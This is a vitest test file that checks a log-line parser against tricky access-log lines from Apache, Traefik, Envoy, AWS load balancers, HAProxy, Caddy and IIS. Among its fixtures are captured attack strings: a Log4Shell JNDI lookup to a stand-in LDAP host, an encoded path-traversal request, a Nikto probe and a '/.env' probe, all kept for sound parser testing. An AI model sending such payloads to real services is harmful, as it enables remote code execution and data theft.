import { expect, test } from 'vitest';
import { readFormat } from '../../../src/scanners/gateway/formats/read-format.ts';
import { readFieldsLine, toTextFormat } from '../../../src/scanners/gateway/kernel/columns.ts';
import {
  type LineFields,
  toFieldReader,
} from '../../../src/scanners/gateway/kernel/read-fields.ts';
import type { Role } from '../../../src/scanners/gateway/log-format.ts';

type Fields = Readonly<Partial<Record<Role, string>>>;

/** Real lines that naive readers get wrong: format, line, and what it says or why it is not read. */
const lines: readonly (readonly [string, string, Fields | string])[] = [
  [
    'vhost-combined',
    '67.43.156.15:80 127.0.0.1 - - [12/Apr/2018:09:48:40 +0200] "" 400 0 "-" "-"',
    {
      host: '67.43.156.15:80',
      address: '127.0.0.1',
      time: '12/Apr/2018:09:48:40 +0200',
      status: '400',
      bytes: '0',
    },
  ],
  [
    'vhost-combined',
    'example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "hello" 400 173 "-" "-"',
    {
      host: 'example.com:80',
      address: 'unix:',
      time: '26/Feb/2019:15:39:42 +0100',
      request: 'hello',
      status: '400',
      bytes: '173',
    },
  ],
  [
    'vhost-combined',
    '67.43.156.15 2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6, 10.225.192.17 10.2.2.121 - - [30/Dec/2016:06:47:09 +0000] "GET /test.html HTTP/1.1" 404 8571 "-" "Mozilla/5.0"',
    {
      host: '67.43.156.15',
      address: '2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6, 10.225.192.17',
      time: '30/Dec/2016:06:47:09 +0000',
      request: 'GET /test.html HTTP/1.1',
      status: '404',
      bytes: '8571',
      agent: 'Mozilla/5.0',
    },
  ],
  [
    'vhost-combined',
    'example.com:80 "10.5.102.222, 199.96.1.1, 204.246.1.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET /assets/x HTTP/1.1" 200 25507 "-" "Amazon CloudFront"',
    {
      host: 'example.com:80',
      address: '10.5.102.222, 199.96.1.1, 204.246.1.1',
      time: '22/Jan/2016:13:18:29 +0000',
      request: 'GET /assets/x HTTP/1.1',
      status: '200',
      bytes: '25507',
      agent: 'Amazon CloudFront',
    },
  ],
  [
    'vhost-combined',
    'example.com 10.0.0.2, 10.0.0.1, 127.0.0.1 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0"',
    {
      host: 'example.com',
      address: '10.0.0.2, 10.0.0.1, 127.0.0.1',
      time: '07/Dec/2016:11:05:07 +0100',
      request: 'GET /ocelot HTTP/1.1',
      status: '200',
      bytes: '571',
      agent: 'Mozilla/5.0',
    },
  ],
  [
    'common',
    '3fff::1 - - [26/Dec/2016:16:16:48 +0200] "-" 408 -',
    { address: '3fff::1', time: '26/Dec/2016:16:16:48 +0200', status: '408' },
  ],
  [
    'apache-ssl-request',
    '[10/Aug/2018:09:45:56 +0200] 172.30.0.119 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 "GET /nagiosxi/ajaxhelper.php?cmd=x HTTP/1.1" 1011',
    {
      time: '10/Aug/2018:09:45:56 +0200',
      address: '172.30.0.119',
      request: 'GET /nagiosxi/ajaxhelper.php?cmd=x HTTP/1.1',
      bytes: '1011',
    },
  ],
  [
    'traefik',
    '192.168.33.1 - - [02/Oct/2017:22:22:08 +0200] "GET /ui HTTP/1.1" 304 0 "-" "Mozilla/5.0" 271 "Host-host1 "http://172.19.0.3:5601" 3ms',
    'one quote too few: where the router ends cannot be known',
  ],
  [
    'traefik',
    '10.0.0.9 - - [02/Oct/2025:22:22:08 +0000] "GET / HTTP/1.1" 200 415 "-" "curl/8.5" 1 "root@docker -> intermediate1@docker -> intermediate2@docker -> leaf@docker" "http://172.17.0.4:80" 25ms',
    {
      address: '10.0.0.9',
      time: '02/Oct/2025:22:22:08 +0000',
      request: 'GET / HTTP/1.1',
      status: '200',
      bytes: '415',
      agent: 'curl/8.5',
      route: 'root@docker -> intermediate1@docker -> intermediate2@docker -> leaf@docker',
      upstream: 'http://172.17.0.4:80',
      duration: '25ms',
    },
  ],
  [
    'traefik',
    '172.17.1.1 - - [28/Sep/2022:13:38:04 +0000] "GET /mobileadmin/home.cs HTTP/1.1" - - "-" "Mozilla/5.00 (Nikto/2.1.5)" 45640 "-" "-" 0ms',
    {
      address: '172.17.1.1',
      time: '28/Sep/2022:13:38:04 +0000',
      request: 'GET /mobileadmin/home.cs HTTP/1.1',
      agent: 'Mozilla/5.00 (Nikto/2.1.5)',
      duration: '0ms',
    },
  ],
  [
    'combined',
    `203.0.113.9 - - [29/May/2019:19:02:48 +0000] "lv|'|'|VHJvamFuX0M0NkY2RTk=|'|'|MARK|'|'|user|'|'|[endof]" 400 157 "-" "-"`,
    {
      address: '203.0.113.9',
      time: '29/May/2019:19:02:48 +0000',
      request: "lv|'|'|VHJvamFuX0M0NkY2RTk=|'|'|MARK|'|'|user|'|'|[endof]",
      status: '400',
      bytes: '157',
    },
  ],
  [
    'combined',
    String.raw`203.0.113.9 - - [29/May/2019:19:02:48 +0000] "\x16\x03\x01\x01 \x02" 400 226 "-" "-"`,
    {
      address: '203.0.113.9',
      time: '29/May/2019:19:02:48 +0000',
      request: String.raw`\x16\x03\x01\x01 \x02`,
      status: '400',
      bytes: '226',
    },
  ],
  [
    'nginx-proxy-manager',
    '[24/Jan/2022:13:40:19 +0000] 444 - GET https 4.3.2.1 "/.env" [Client 207.32.219.89] [Length 0] [Gzip -] "-" "-"',
    {
      time: '24/Jan/2022:13:40:19 +0000',
      status: '444',
      method: 'GET',
      host: '4.3.2.1',
      path: '/.env',
      address: '207.32.219.89',
      bytes: '0',
    },
  ],
  [
    'nginx-proxy-manager',
    '[24/Jan/2022:13:40:19 +0000] - 404 404 - GET http openresty.local "/x" [Client 10.0.0.4] [Length 150] [Gzip -] [Sent-to openresty.local] "curl/8" "-"',
    {
      time: '24/Jan/2022:13:40:19 +0000',
      status: '404',
      method: 'GET',
      host: 'openresty.local',
      path: '/x',
      address: '10.0.0.4',
      bytes: '150',
      upstream: 'openresty.local',
      agent: 'curl/8',
    },
  ],
  [
    'nginx-proxy-manager',
    '2022/01/24 13:40:19 [error] 31#31: *3 connect() failed (111: Connection refused)',
    'a line of the error log in the same file',
  ],
  [
    'envoy',
    '[2026-01-24T01:38:00.000Z] "POST /api/proxy6 HTTP/1.1" 201 - 0 1024 40 20 "fd00:1234:5678::5a24, [fd00:1234:5678::1]:54321" "curl/8" "1f" "api:80" "[fd00::7]:8080"',
    {
      time: '2026-01-24T01:38:00.000Z',
      method: 'POST',
      path: '/api/proxy6',
      status: '201',
      bytes: '1024',
      duration: '40',
      address: 'fd00:1234:5678::5a24, [fd00:1234:5678::1]:54321',
      agent: 'curl/8',
      'request-id': '1f',
      host: 'api:80',
      upstream: '[fd00::7]:8080',
    },
  ],
  [
    'envoy',
    '[2019-04-06T06:20:05.972Z] "- - -" 0 UF,URX 0 0 0 - "-" "-" "-" "-" "127.0.0.1:9200"',
    {
      time: '2019-04-06T06:20:05.972Z',
      status: '0',
      bytes: '0',
      duration: '0',
      upstream: '127.0.0.1:9200',
    },
  ],
  [
    'envoy-json',
    '{"start_time":"2026-01-24T01:38:00.000Z","method":"GET","path":"/","response_code":404,"bytes_sent":0,"duration":0,"upstream_cluster":null,"upstream_host":null,"response_code_details":"direct_response","downstream_remote_address":"10.0.0.4:1"}',
    {
      time: '2026-01-24T01:38:00.000Z',
      method: 'GET',
      path: '/',
      status: '404',
      bytes: '0',
      duration: '0',
      address: '10.0.0.4:1',
    },
  ],
  [
    'aws-alb',
    'http 2021-03-17T18:54:14.216357Z app/awseb-x/7f0d 113.241.19.90:15070 - -1 -1 -1 400 - 0 272 "- http://awseb-x.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2021-03-17T18:54:13.967000Z "-" "-" "-" "-" "-" "-" "-"',
    {
      time: '2021-03-17T18:54:14.216357Z',
      address: '113.241.19.90:15070',
      duration: '-1',
      status: '400',
      bytes: '272',
      request: '- http://awseb-x.us-east-1.elb.amazonaws.com:80- -',
    },
  ],
  [
    'aws-alb',
    'https 2021-03-16T20:20:00.135052Z app/awseb-x/a32a 2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599 fd6d:6bbc:c529:6::face:ed83:f46:80 0.001 0.052 0.000 200 200 589 2084 "POST https://api.example.com:443/%%32%65%%32%65/ HTTP/1.1" "${jndi:ldap://${java:version}.domain/a}" - - arn:tg "Root=1" "some.domain.com" "-" 0 2021-03-16T20:20:00.081000Z "waf,forward" "-" "-" "[::1]:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess"',
    {
      time: '2021-03-16T20:20:00.135052Z',
      address: '2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599',
      duration: '0.052',
      status: '200',
      bytes: '2084',
      request: 'POST https://api.example.com:443/%%32%65%%32%65/ HTTP/1.1',
      agent: '${jndi:ldap://${java:version}.domain/a}',
      upstream: 'arn:tg',
      host: 'some.domain.com',
    },
  ],
  [
    'aws-nlb',
    'tls 1.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 89.160.20.112:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:1:certificate/2a - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer.elb.us-east-2.amazonaws.com',
    {
      time: '2018-12-20T02:59:40',
      address: '89.160.20.112:51341',
      duration: '5',
      bytes: '246',
      host: 'my-network-loadbalancer.elb.us-east-2.amazonaws.com',
    },
  ],
  [
    'haproxy',
    '117.136.40.129:14853 [14/Jan/2015:12:48:57.127] https-in~ xx_server_https/xxx_node_8002 170/0/0/3/173 200 739 - - --NN 0/0/0/0/0 0/0 "GET /xxx/xxx HTTP/1.1"',
    {
      address: '117.136.40.129:14853',
      time: '14/Jan/2015:12:48:57.127',
      upstream: 'xx_server_https',
      duration: '173',
      status: '200',
      bytes: '739',
      request: 'GET /xxx/xxx HTTP/1.1',
    },
  ],
  ['haproxy', 'Proxy prod_http_in started.', 'a note on the proxy itself'],
  [
    'haproxy',
    'Connect from 1.128.3.4:40780 to 1.128.3.4:5000 (main/HTTP)',
    'neither time nor outcome: HAProxy without "option httplog"',
  ],
  [
    'haproxy-tcp',
    '127.0.0.1:40962 [20/Sep/2018:15:44:23.285] main app/<NOSRV> -1/-1/1 212 SC 1/1/0/0/0 0/0',
    {
      address: '127.0.0.1:40962',
      time: '20/Sep/2018:15:44:23.285',
      upstream: 'app',
      duration: '1',
      bytes: '212',
    },
  ],
  [
    '%ci:%cp [%tr] %ft %b/%s %[var(txn.host)] %Tw/%Tc/%Tr/%Tt/%Ta %ST %B',
    '-:22222 [20/Sep/2018:15:44:23.285] www-https~ myapp/node2 site.domain.com 0/0/0/18/18 200 31',
    {
      // The client is not known, its port is: no address.
      address: '-:22222',
      time: '20/Sep/2018:15:44:23.285',
      upstream: 'myapp',
      host: 'site.domain.com',
      duration: '18',
      status: '200',
      bytes: '31',
    },
  ],
  [
    'caddy',
    '{"level":"error","ts":1693840791.7564995,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"127.0.0.1","client_ip":"127.0.0.1","method":"GET","host":"erp","uri":"/x","headers":{"X-Forwarded-For":["127.0.0.1"]}},"user_id":"","duration":0.1,"size":0,"status":0}',
    {
      time: '1693840791.7564995',
      address: '127.0.0.1',
      method: 'GET',
      host: 'erp',
      path: '/x',
      duration: '0.1',
      bytes: '0',
      status: '0',
    },
  ],
  [
    'combined',
    '46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok HTTP/1.1" 200 8892 "-" "Googlebot/2.1; +http://www.google.com/bot.html',
    'the line ends inside the user agent',
  ],
  [
    'combined',
    '192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /vmw HTTP/1.0" 404 46210 "-" "gPXE/0.9.7"',
    'the user is missing',
  ],
  ['common', '- - - [-] "-" - -', {}],
];

function read(format: string, line: string): LineFields | undefined {
  for (const one of readFormat(format)) {
    const found = toFieldReader(one)(line);
    if (found) return found;
  }
  return undefined;
}

test.each(lines)('%s: %s', (format, line, expected) => {
  if (typeof expected === 'string') expect(read(format, line)).toBeUndefined();
  else expect(read(format, line)).toEqual(expected);
});

test('columns that change in one file, and bytes of no UTF-8', () => {
  const [format] = readFormat('iis');
  if (format?.kind !== 'columns') throw new Error('the preset has columns');
  const below = (header: string, row: string): LineFields | undefined =>
    toFieldReader(toTextFormat(format, readFieldsLine(header) ?? [], ' '))(row);
  expect(
    below(
      '#Fields: date time c-ip cs-method cs-uri-stem sc-status',
      '2026-11-02 10:00:00 10.1.4.7 GET /a 200',
    ),
  ).toEqual({
    date: '2026-11-02',
    clock: '10:00:00',
    address: '10.1.4.7',
    method: 'GET',
    path: '/a',
    status: '200',
  });
  expect(
    below(
      '#Fields: date time cs-uri-stem cs(User-Agent) time-taken s-computername cs-host',
      '2026-11-02 10:00:00 /a ÄÖÜäöü\\ßßßMözillä/5.0+(compatible;+x) 12 WEB01 erp.example.org',
    ),
  ).toEqual({
    date: '2026-11-02',
    clock: '10:00:00',
    path: '/a',
    agent: 'ÄÖÜäöü\\ßßßMözillä/5.0+(compatible;+x)',
    duration: '12',
    host: 'erp.example.org',
  });
  // A row of an older header does not fit the columns of the new one.
  expect(
    below('#Fields: date time c-ip cs-method cs-uri-stem sc-status', '2026-11-02 10:00:00 /a'),
  ).toBeUndefined();
});
